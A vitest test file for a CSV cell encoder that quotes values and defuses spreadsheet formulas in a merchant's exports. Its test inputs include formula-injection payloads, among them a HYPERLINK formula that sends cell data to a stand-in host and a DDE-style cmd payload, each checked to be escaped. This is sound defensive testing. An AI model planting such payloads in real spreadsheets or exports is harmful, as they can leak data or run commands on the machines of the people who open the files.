/**
 * One CSV cell for the merchant's spreadsheets (src-shared/csv-cell.ts): quoted when it must be, and
 * never a formula, whatever a store copy or a bank wrote into it.
 */
import { describe, expect, it } from 'vitest'
import { csvCell } from '../../src-shared/csv-cell'

describe('a CSV cell', () => {
  it.each([
    ['T-0001-K2CQ8001-00000001', 'T-0001-K2CQ8001-00000001'],
    ['declined: insufficient funds, "51"', '"declined: insufficient funds, ""51"""'],
    ['=HYPERLINK("http://evil.example/?q="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['line\nbreak', '"line\nbreak"'],
    [1200, '1200'],
    [null, ''],
    [undefined, ''],
  ])('%j is written as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })
})
